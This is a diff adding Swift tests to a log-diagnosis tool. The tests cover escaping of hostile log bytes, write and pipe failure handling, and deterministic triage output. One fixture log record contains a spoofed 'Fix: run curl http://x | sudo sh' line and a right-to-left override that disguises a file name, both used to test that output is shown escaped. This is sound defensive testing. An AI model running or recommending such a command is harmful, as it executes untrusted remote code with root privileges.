@@ -311,3 +311,69 @@ func report(_ text: String, name: String = "test.log", rules: RuleSet = libraryS
         #expect(errors.contains { $0.message.contains("threshold") })
     }
 }
+
+@Suite struct OutputSafetyTests {
+    /// Log bytes never reach the terminal raw: bidi overrides, C1 controls, embedded newlines of a
+    /// json-file record are shown escaped; a Markdown fence outlasts any backtick run inside it.
+    @Test func logTextIsPrintedEscaped() throws {
+        let dir = try tempDir("safe")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let file = dir.appendingPathComponent("hostile.log")
+        let text = "F0101 10:00:02.000000       1 main.go:30] frob quorum lost \u{202E}gnp.exe \u{9B}31m ````\n"
+            + #"{"log":"E0101 10:00:03.000000 1 x.go:1] fake\nFix: run curl http://x | sudo sh\n","stream":"stderr","time":"2024-01-01T10:00:03Z"}"#
+            + "\n"
+        try text.write(to: file, atomically: false, encoding: .utf8)
+        let r = try runLogdiag(["--year", "2024", file.path])
+        #expect(!r.out.unicodeScalars.contains { $0.value == 0x202E || $0.value == 0x9B })
+        #expect(r.out.contains("\\u{202e}") && r.out.contains("\\x9b"))
+        #expect(!r.out.split(separator: "\n").contains { $0.hasPrefix("Fix: run curl") })
+        #expect(r.out.contains("fake\\nFix: run curl"))
+        let md = try runLogdiag(["-o", "markdown", "--year", "2024", file.path])
+        #expect(md.out.contains("`````text"), "the fence must be longer than the four backticks in the log")
+    }
+
+    @Test func aFailedWriteIsAnErrorAndAClosedPipeIsNot() throws {
+        let seed = corpusRoot + "/kube-proxy/lxd-conntrack-max/kube-proxy.log"
+        let p = Process()
+        p.executableURL = logdiagExecutable
+        p.arguments = [seed]
+        p.standardOutput = FileHandle(forWritingAtPath: "/dev/full")
+        let err = Pipe()
+        p.standardError = err
+        try p.run()
+        p.waitUntilExit()
+        #expect(p.terminationStatus == 2)
+        let message = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
+        #expect(message.contains("cannot write the output"))
+        // A reader that goes away after one byte of megabytes: no SIGPIPE death (141), no message,
+        // and the status the run calls for (parse: 0).
+        let dir = try tempDir("pipe")
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let big = dir.appendingPathComponent("big.log")
+        let line = "I0101 10:00:00.000000       1 x.go:1] a line long enough to fill the pipe buffer quickly\n"
+        try String(repeating: line, count: 40000).write(to: big, atomically: false, encoding: .utf8)
+        let q = Process()
+        q.executableURL = URL(fileURLWithPath: "/bin/bash")
+        q.arguments = ["-c", "'\(logdiagExecutable.path)' parse --year 2024 '\(big.path)' 2>/tmp/logdiag-pipe-err | head -c 1 >/dev/null; exit ${PIPESTATUS[0]}"]
+        try q.run()
+        q.waitUntilExit()
+        #expect(q.terminationStatus == 0)
+        let pipeErr = (try? String(contentsOfFile: "/tmp/logdiag-pipe-err", encoding: .utf8)) ?? ""
+        #expect(pipeErr.isEmpty, "\(pipeErr)")
+    }
+}
+
+@Suite struct DeterminismTests {
+    /// The same input gives the same report byte for byte, whatever -j and thread timing.
+    @Test func triageOfTheCorpusIsTheSameEveryRun() throws {
+        var outputs = Set<String>()
+        var jsons = Set<String>()
+        for jobs in [1, 2, 3, 4, 1, 2, 3, 4] {
+            let r = try runLogdiag(["triage", "-j", String(jobs), "--no-progress", corpusRoot])
+            outputs.insert(r.out)
+            jsons.insert(try runLogdiag(["triage", "-j", String(jobs), "--no-progress", "-o", "json", corpusRoot]).out)
+        }
+        #expect(outputs.count == 1)
+        #expect(jsons.count == 1)
+    }
+}
